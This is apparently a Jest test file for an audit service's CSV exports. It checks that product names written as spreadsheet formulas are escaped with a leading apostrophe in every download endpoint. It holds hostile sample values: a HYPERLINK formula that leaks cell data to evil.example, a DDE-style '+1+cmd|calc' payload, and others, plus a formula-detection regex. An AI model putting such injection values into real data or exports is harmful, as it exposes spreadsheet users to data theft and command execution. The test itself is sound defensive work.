import { parse } from 'csv-parse/sync';
import { AuditService } from '../../../src/audit/audit.service';
import { UserRole } from '../../../src/generated/prisma/enums';
import { createPunchoutSession } from '../../factories/audit.factory';
import { createCatalog } from '../../factories/catalog.factory';
import { createClient, createOrganization, createUser } from '../../factories/identity.factory';
import { bearer, issueTestToken } from '../../support/auth';
import { consoleCookie } from '../../support/console-sign-in';
import { startTestApp, TestApp } from '../../support/test-app';

/** What a spreadsheet takes for a formula at the start of a cell (ASCII and full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the invoice")';

/**
 * CSV formula injection: a supplier names a product `=HYPERLINK(...)`, a buyer transfers it, an
 * auditor exports and opens the CSV in a spreadsheet. Every cell of every CSV download is written so
 * that no spreadsheet runs it (a leading apostrophe), and the text stays readable.
 */
describe('hardening: CSV downloads neutralise formulas', () => {
  let t: TestApp;
  let cookie: string;
  let token: string;

  beforeAll(async () => {
    t = await startTestApp();
    const audit = t.app.get(AuditService);
    const organization = await createOrganization(t.prisma);
    const { client } = await createClient(t.prisma, organization);
    const auditor = await createUser(t.prisma, organization, { roles: [UserRole.auditor] });
    const buyer = await createUser(t.prisma, organization);
    await createCatalog(t.prisma, [
      { id: 'csv-hostile', name: HOSTILE_NAME, categoryId: 'paper', offers: [{ price: '5.00' }] },
      { id: 'csv-plus', name: '+1+cmd|calc', categoryId: 'paper', offers: [{ price: '2.00' }] },
      { id: 'csv-at', name: '@SUM(1+1)', categoryId: 'paper', offers: [{ price: '3.00' }] },
      { id: 'csv-minus', name: '-2+3', categoryId: 'paper', offers: [{ price: '4.00' }] },
    ]);
    for (const productId of ['csv-hostile', 'csv-plus', 'csv-at', 'csv-minus']) {
      await createPunchoutSession(t.prisma, audit, {
        organization,
        client,
        user: buyer,
        productId,
        status: 'TRANSFERRED',
        cart: [{ offerId: `${productId}-o1`, quantity: 1, unitPrice: '5.00' }],
      });
    }
    token = await issueTestToken(t.prisma, auditor, client);
    cookie = await consoleCookie(t, auditor);
  });
  afterAll(() => t?.close());

  it.each([
    '/audit/console/sessions/export?format=csv',
    '/audit/console/administration/export?format=csv',
    '/audit/console/export?format=csv',
    '/api/v1/audit/export?format=csv',
  ])('%s: no cell starts a formula', async (path) => {
    const response = await fetch(`${t.baseUrl}${path}`, {
      headers: path.startsWith('/api') ? bearer(token) : { cookie },
    });
    expect(response.status).toBe(200);
    const rows = parse(await response.text(), { relax_column_count: false }) as string[][];
    expect(rows.length).toBeGreaterThan(1);
    const formulas = rows.flat().filter((cell) => FORMULA_START.test(cell));
    expect(formulas).toEqual([]);
  });

  it('keeps the name readable: the apostrophe in front, the text as it was', async () => {
    const response = await fetch(`${t.baseUrl}/audit/console/sessions/export?format=csv`, {
      headers: { cookie },
    });
    const [header, ...rows] = parse(await response.text()) as string[][];
    const names = rows.map((row) => row[header.indexOf('productName')]).sort();
    expect(names).toEqual([`'${HOSTILE_NAME}`, "'+1+cmd|calc", "'-2+3", "'@SUM(1+1)"].sort());
  });
});
